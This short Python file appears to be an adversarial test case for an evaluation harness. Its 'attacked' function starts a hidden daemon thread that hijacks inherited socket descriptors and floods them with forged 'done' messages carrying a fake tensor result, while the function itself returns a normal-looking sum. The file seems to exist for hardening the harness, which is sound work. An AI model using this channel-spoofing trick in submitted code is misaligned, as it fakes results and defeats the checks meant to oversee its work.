"""Leaves a thread behind that sends answers of its own to what has not been asked yet."""
# verdict: result is wrong|broke off|closed the channel|sent

import json
import socket
import struct
import threading
import time


def answer():
    header = {"kind": "done", "nonce": "", "defined": True, "result": {"tensor": 0}, "changed": [], "broken": []}
    header = json.dumps(header | {"tensors": [["float32", [], False]]}).encode()
    for number in range(3, 64):
        try:
            channel = socket.socket(fileno=number)
        except OSError:
            continue
        while True:
            time.sleep(0.0005)
            channel.sendall(struct.pack("<QQ", len(header), 4) + header + struct.pack("f", 736.25))


def attacked(x):
    threading.Thread(target=answer, daemon=True).start()
    return x.sum()
